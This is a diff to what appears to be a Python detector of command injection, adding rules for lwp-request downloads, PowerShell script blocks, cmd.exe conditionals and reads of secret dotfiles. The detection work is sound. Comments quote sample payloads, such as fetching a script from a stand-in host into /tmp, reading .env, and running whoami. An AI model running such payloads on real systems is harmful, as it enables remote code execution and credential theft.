@@ -19,6 +19,7 @@ TRIGGERS_BASE = [
     r"\b[a-z][a-z0-9_.\-]+\s+(?:-{1,2}[a-z]|/[a-z]|[<>]|\S*/)", r"/[^/\s]*[?*\[][^/\s]*/", r"\?\?", r"\*/", r"\w=\w", r"\balias\s", r"\"\"|''", r"^\s*\\[a-z]", r"[<>]\(", r"\$\[", r"\$\(\(", r"[;\n]\s*\.[a-z]", r"\{,", r"bin/", r"^\s*\(\s*\)", r"^\s*['\"`]+\s*[a-z]+\s*['\"`]+\s*$",
     r"^\s*~[+\-]?\d*\s*$", r"!-\d|(?:^|[\s;&|`])!!", r"^\s*-{1,2}[a-z]",
     r"[a-z]\$[@*#?!\d]", r"[a-z]\^[a-z]",
+    r"[a-z]['\"][a-z0-9]*['\"][a-z]|(?:^|[\s;|&])['\"][a-z0-9]+['\"][a-z]|[a-z]['\"][a-z0-9]+['\"](?:$|[\s;|&])",  # `w"h"o"am"i`
     r"[a-z]\\[a-z]",  # a backslash inside a word (`c\at`): shell quoting, undone before analysis
     r"\b(?:pip3?|npm|gem|apt(?:-get)?|yum|dnf|brew|cargo|composer|yarn|conda|apk|pacman|zypper|pipx|poetry|bun)\s+(?:install|uninstall|add|remove|update|upgrade|download|exec|run|purge|erase)\b",
 ]
@@ -58,6 +59,18 @@ _ALL = STRONG | WIN
 _WIN_FLOW = re.compile(
     r"(?<!\{%)(?<!\{%-)(?<!\{%\s)(?<!\{%-\s)\bif(?:\s*/i)?(?:\s+not)?\s+(?:exist\b|defined\b|errorlevel\b|cmdextversion\b|[^\s(]\S*\s*==|\([^()\s]*\)\s*==|\(?\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S+)|"
     r"\bfor(?:\s*/[a-z]+(?:\s+\"[^\"]*\"|\s+[a-z]:\\\S*)?)*\s+%%?~?\S{1,30}\s+in\s*\(.*\)\s*do\b", re.I | re.S)
+# cmd.exe's `if` on a variable, cut where its `==` began: a cookie or parameter *name* (`Cookie: &if /i "%OS%"=="x" calc`
+# arrives as the name `&if /i "%OS%"`), or a value ending there.
+_WIN_IF_CUT = re.compile(r"^\s*(?:[&|;]{1,2}\s*)?if(?:\s*/i)?(?:\s+not)?\s+\"?%[a-z_]\w{0,30}%\"?\s*$", re.I)
+# lwp-request's `GET`/`HEAD`/`POST` (upper case: the names it installs) in command position, fetching a URL into a file
+# or into an interpreter (`x;GET http://e.example/s.pl > /tmp/s.pl`); API documentation writes the method before a
+# path or a URL, never a redirection into a file after it.
+_LWP_REQUEST = re.compile(r"(?:^|[;&|\n`]|\$\()[ \t]*(?:GET|HEAD|POST|lwp-request)[ \t]+(?:-\S+[ \t]+)*(?:https?|ftp)://\S+"
+                          r"(?:[ \t]+-\S+)*[ \t]*(?:>{1,2}[ \t]*(?:[~./$]|[a-z]:\\)|\|[ \t]*(?:(?:/usr)?/bin/)?"
+                          r"(?:(?:ba|z|k|da|c|tc|a)?sh|python[\d.]*|perl|ruby|php|node|tee)\b)")
+# A cmdlet (or its alias) that runs a script block: `icm -ScriptBlock {whoami}`, `Start-Job -ScriptBlock { … }`.
+_PS_SCRIPTBLOCK = re.compile(r"(?:^|[;|&\n({`])\s*(?:icm|invoke-command|sajb|start-job|start-threadjob)\s+"
+                             r"(?:-[a-z]+\s+(?!-)[^\s{}]+\s+)*-scriptblock\s*\{\s*[^\s}]")
 _WIN_MISC = re.compile(
     r"%[a-z_][\w()]{0,30}:(?:~-?\d{1,4}(?:,-?\d{1,4})?|[^%=\s]{1,20}=[^%]{0,20})%|%comspec%|"
     r"\biex\s*[(\$'\"]|\|\s*iex\b|\b(?:invoke-expression|new-object\s+(?:system\.)?net\.(?:webclient|sockets)|"
@@ -108,6 +121,11 @@ _PKG_MANAGERS = {"pip", "pip3", "npm", "gem", "apt", "apt-get", "yum", "dnf", "b
                  "conda", "apk", "pacman", "zypper", "pipx", "easy_install", "poetry", "bun"}
 _PKG_VERBS = {"install", "uninstall", "add", "remove", "update", "upgrade", "download", "exec", "run", "purge", "erase"}
 _SHELLS = {"sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "ash", "rc", "busybox", "su", "sudo"}
+# Programs that are words of every text about code (`git log --oneline` in a search, `svnadmin|git lfs|large files`):
+# commands only where a separator on the same line puts them (`x|git config --list`, `a; mount -o remount,rw /`).
+_AFTER_SEPARATOR = {"git", "mount"}
+# (not a backtick: `use `git status` first` is a Markdown code span far more often than a substitution)
+_CHAIN_SEPS = (";", "|", "||", "&&", "&", "$(")
 _TILDE = re.compile(r"^\s*~(?:[+\-]\d*|0+)\s*$")
 # `!!`, `!-2` are history events; `!!!` is an exclamation
 _HISTORY = re.compile(r"(?:^|[\s;&|`]|\$\()!(?:-\d+(?=$|[\s;&|!`)])|!(?=$|[\s;&|`)]))")
@@ -364,6 +382,109 @@ _SHELLISH_ARG = re.compile(r"^(?:-{1,2}[a-z0-9]|[a-z]:(?:[\\/ ]|$)|hk(?:lm|cu|cr
                            r"/[a-z0-9_.\-]+/)", re.I)
 
 
+# Files of secrets an application or a user keeps beside their code or at home: environment files, credentials of git,
+# package registries, clouds and databases, shell histories, ssh keys.
+_SECRET_FILE = re.compile(r"^(?:[\w.~+\-]*/)*\.(?:env(?:\.[\w\-]+)?|htpasswd|netrc|pgpass|npmrc|pypirc|git-credentials|my\.cnf|"
+                          r"(?:bash|zsh|sh|mysql|psql|python|node_repl)_history|aws/(?:credentials|config)|"
+                          r"docker/config\.json|kube/config|ssh/[\w.\-]+|git/config|gnupg/[\w.\-]+)$")
+
+
+
+# A list of technologies (a CV's skills, a job ad's stack): names, versions and notes in parentheses separated by `;`,
+# `,`, `&` or a spaced `/`. To a shell `,` and `/` join words and `(` after a word is a syntax error, so the items are no
+# command lines; the programs among them must read as names (a product, a language, a capitalised word), never as a
+# probe, a Windows program, a state change, or a program given an operand (`x; sleep 5; y`, `a & calc & b`, `rm logs`).
+_TECH_LIST_RULES = {"rce:chained_command", "rce:command_terminated", "rce:leading_separator", "rce:command_line",
+                    "rce:bare_command"}
+_TECH_CHARS = re.compile(r"^[A-Za-z0-9 .,;/&()+#\-]{1,400}$")
+_TECH_SPLIT = re.compile(r"[;,()&]|\s/\s")
+_TECH_NAME = re.compile(r"^(?:\.?[a-z][\w.+#\-]*|[a-z][\w+#\-]*(?:/[\w+#\-]+)+)$", re.I)
+_TECH_VERSION = re.compile(r"^v?\d{1,4}(?:[./]\d{1,4}){0,2}[a-z]?$", re.I)
+
+
+def _tech_list(value: str) -> bool:
+    if not _TECH_CHARS.match(value) or value.count("(") != value.count(")"):
+        return False
+    items = [i.split() for i in _TECH_SPLIT.split(value) if i.strip()]
+    if len(items) < 3:
+        return False
+    plain = 0
+    for item in items:
+        if len(item) > 4 or not all(_TECH_NAME.match(t) or _TECH_VERSION.match(t) for t in item):
+            return False
+        head = item[0]
+        c = _cmd_name(head.lower()) if not _TECH_VERSION.match(head) else None
+        if c is None:
+            plain += 1
+            continue
+        if c in _LANGUAGE_SHELLS and head[:1].isupper() and len(item) == 1:
+            continue  # `Bash`, `PowerShell`: a scripting language named as a skill
+        if c in _PROBES or c in WIN_STRONG or \
+                c in _SYSTEM_STATE or c in WIN and c not in PROSE and c not in _NOUN_TOOLS or \
+                c in STRONG and c not in PROSE and c not in _NOUN_TOOLS:
+            return False
+        for t in item[1:]:
+            if _TECH_VERSION.match(t):
+                if c not in _NOUN_TOOLS:
+                    return False  # `sleep 5`, `kill 1`: a program and its operand
+            elif _cmd_name(t.lower()) is not None or "." in t or "/" in t or \
+                    not (c in _NOUN_TOOLS or head[:1].isupper()):
+                return False  # `wget evil.example`, `rm logs`
+    return plain >= 1
+
+
+# Search-engine syntax in a search box: upper-case `OR`/`AND`/`NOT` between words, `-word` exclusions and `+word`
+# requirements, quoted phrases. An exclusion right after a program's name is that program's option (`powershell
+# -noprofile whoami`), and the word after an exclusion must name no program.
+_SEARCH_PHRASE = re.compile(r"\"[a-z0-9 \-]{1,60}\"", re.I)
+_SEARCH_OP = re.compile(r"^(?:OR|AND|NOT)$")
+_SEARCH_EXCLUDE = re.compile(r"^[-+][a-z][a-z0-9]{2,}$", re.I)
+_SEARCH_WORD = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*[.,!?]?$", re.I)
+
+
+def _search_syntax(value: str) -> bool:
+    phrased = _SEARCH_PHRASE.sub(" phrase ", value)
+    toks = phrased.split()
+    if not toks or len(toks) > 16:
+        return False
+    op = phrased != value
+    for i, t in enumerate(toks):
+        if _SEARCH_OP.match(t):
+            op = True
+        elif _SEARCH_EXCLUDE.match(t):
+            if i == 0 or _cmd_name(toks[i - 1].lower()) is not None or \
+                    i + 1 < len(toks) and _cmd_name(toks[i + 1].lower()) is not None:
+                return False
+            op = True
+        elif not _SEARCH_WORD.match(t):
+            return False
+    return op
+
+
+# `getent shadow`, `getent passwd www-data`: a lookup in the account databases, whole; in a search box too (a search
+# about it has more words: `getent passwd not showing ldap users`, `getent group tutorial`).
+_ACCOUNT_LOOKUP = re.compile(r"^\s*getent\s+(g?shadow|passwd|group)(?:\s+([a-z_][\w.\-]{0,31}))?\s*$", re.I)
+
+
+def _account_lookup(value: str) -> bool:
+    m = _ACCOUNT_LOOKUP.match(value)
+    if m is None:
+        return False
+    key = (m.group(2) or "").lower()
+    if not key:
+        return m.group(1).lower() != "passwd" and m.group(1).lower() != "group"
+    return key not in _FUNCTION_WORDS and key not in _TOPIC and key not in _SYMPTOM
+
+
+def _secret_read(args: list[str]) -> bool:
+    """A secret file among the arguments and no English word after it (`use a .env file; source .env is fine` is a
+    sentence about the file)."""
+    for i, a in enumerate(args):
+        if _SECRET_FILE.match(a):
+            return not any(_PROSE_WORD.match(b) for b in args[i + 1:])
+    return False
+
+
 # A program piped into by path: one in a directory of the file system's top level, where programs live or files can be
 # dropped (`|/tmp/x`, `|/home/www/up/s.pl`); `python3|/user/anna/lab/tree/x` names a notebook's URL path, not a file.
 _PIPE_PATH = re.compile(r"^/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib\w*|srv|mnt|media|run|"
@@ -435,8 +556,10 @@ def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
     if "/dev/" in low or "-e" in low or "-i" in low or "0<&" in low or "mkfifo" in low:
         if _DEV_TCP.search(low):
             take(0.95, "rce:reverse_shell")
-    if ("if" in low or "for" in low) and _WIN_FLOW.search(low):
+    if ("if" in low or "for" in low) and (_WIN_FLOW.search(low) or _WIN_IF_CUT.match(low)):
         take(0.85, "rce:cmd_flow")
+    if ("GET" in value or "HEAD" in value or "POST" in value or "lwp-" in value) and _LWP_REQUEST.search(value):
+        take(0.85, "rce:lwp_request")
     if ("\\" in low) and _WIN_PROGRAM.search(low):
         take(0.85, "rce:windows_program")  # `& \\host\share\x.exe`, `| "C:\…\bash.exe" -c id`
     if _WIN_KEY_RX.search(low):
@@ -479,6 +602,8 @@ def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
             if _cmd_name(v) is not None and k.replace("_", "").isalnum():
                 aliases[k] = _cmd_name(v)  # type: ignore[assignment]
         name = _cmd_name(w, aliases)
+        if name is None and w in _AFTER_SEPARATOR and sep in _CHAIN_SEPS:
+            name = w  # `x|git config --list`: a program a separator put in command position
         is_cmd_pos = bool(sep) or idx == 0
         if w == "." and is_cmd_pos and idx + 1 < len(ws) and not ws[idx + 1][0] and _SOURCED.match(ws[idx + 1][1]):
             # `x; . /tmp/payload.sh`, `$(. /tmp/x)`: the `.` builtin runs the file in the shell (an upload, a dropped file)
@@ -540,7 +665,10 @@ def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
                 not any(a[:1] in "/-" for a in args):
             continue  # `subprocess.run(cmd, shell=True)`: the variable code names a command line; cmd.exe needs /c
         # a drive path or a `/switch` after a Windows name that follows a separator (`x; gc c:\…`, `& sfc /scannow`)
-        shellish = any(_SHELLISH_ARG.match(a) for a in args) or bool(sep) and name in WIN and any(
+        # a secret dotfile (`.env`, `.git-credentials`, `~/.aws/credentials`) read by a command a separator placed
+        # there (`x;cat .env`); first in a value it is a topic of a search (`docker compose .env file`)
+        shellish = sep not in ("", "^") and _secret_read(args) or \
+            any(_SHELLISH_ARG.match(a) for a in args) or bool(sep) and name in WIN and any(
             _DRIVE_ARG.match(a) or _WIN_SWITCH_ARG.match(a) for a in args) or any(
             s2 == "<" or s2 == "|" and (_cmd_name(w2) is not None or not w2 or w2[0] in "$\\.\"'`~" or
                                         _PIPE_PATH.match(w2) is not None)
@@ -592,7 +720,7 @@ def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
         elif sep in (";", "|", "||", "&&", "\n", "&", "`") and idx == 0:
             # value starts with a separator: injection into a command argument
             strong_args = any(_SHELLISH_ARG.match(a) and (not _WEAK_ARG.match(a) or _SENSITIVE_ARG.match(a)) or
-                              _DRIVE_ARG.match(a) for a in args)
+                              _DRIVE_ARG.match(a) for a in args) or _secret_read(args)
             if strong or absolute or strong_args or not args:
                 take(0.92, "rce:leading_separator")
             elif any(_OPTION.match(a) for a in args[:2]) or args[0] in SUBCOMMANDS.get(name, ()) or \
@@ -634,6 +762,8 @@ def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
                 take(0.75, "rce:command_line")
     if best[1] in _LIST_RULES and best[0] < 0.95 and len(ws) >= 3 and (_word_list(ws) or _delimited_table(value)):
         best = (0.0, "")  # `java; python; go`, `WSL; Docker; VS Code`: a list of names, some spelled like programs
+    elif best[1] in _TECH_LIST_RULES and best[0] < 0.95 and _tech_list(value):
+        best = (0.0, "")  # `PHP 8 / Laravel, JavaScript (ES2022), HTML5 & CSS3`: technologies and their versions
     if best[0] < 0.8 and "$" in low and (m := _VAR_BIN.match(low)) and _cmd_name(m.group(1)) is not None:
         take(0.8, "rce:bin_path")  # `$OLDPWD/../../bin/sh`: a program reached from a variable holding a directory
     if best[0] < 0.8 and "{" in low and "," in low:
@@ -679,6 +809,8 @@ def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
             if PS_FOLLOW.match(value, m.end()):
                 take(0.8, "rce:powershell")  # `Get-ChildItem -Recurse C:\`, `Get-Process | …`: a PowerShell line
                 break
+    if best[0] < 0.85 and "scriptblock" in low and _PS_SCRIPTBLOCK.search(low):
+        take(0.85, "rce:powershell")  # `icm -ScriptBlock {whoami}`: PowerShell runs the block (also as a cookie's name)
     if best[0] < 0.85 and "al" in low and (m := PS_ALIAS.search(value)) and (
             _cmd_name(m.group(1).lower()) is not None or (cand := PS_CANDIDATE.match(m.group(1))) and cmdlet_at(m.group(1), cand)):
         take(0.85, "rce:alias")
@@ -749,7 +881,8 @@ def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
                 take(f.score, f.rule)
     if role == "command" and best[0] < 0.7 and value.strip().lower() in _PARAM_PROBES:
         take(0.7, "rce:command_parameter")  # `cmd=id`: a probe where the application expects a command
-    if role == "search" and 0.5 <= best[0] < 0.95 and best[1] in _QUERY_RULES and _PLAIN_WORDS.match(value):
+    if role == "search" and 0.5 <= best[0] < 0.95 and best[1] in _QUERY_RULES and (
+            _PLAIN_WORDS.match(value) or _search_syntax(value)) and not _account_lookup(value):
         # A search box's query naming tools (`awk sed grep tutorial`, `sudo apt install not working`, `ls 460 engine
         # parts`): plain words only — no separator, option, path, address, quote or variable — are what people search
         # for; an injection there needs the shell syntax that makes a word a command (`;id`, `$(id)`, `|sh`). Reported.
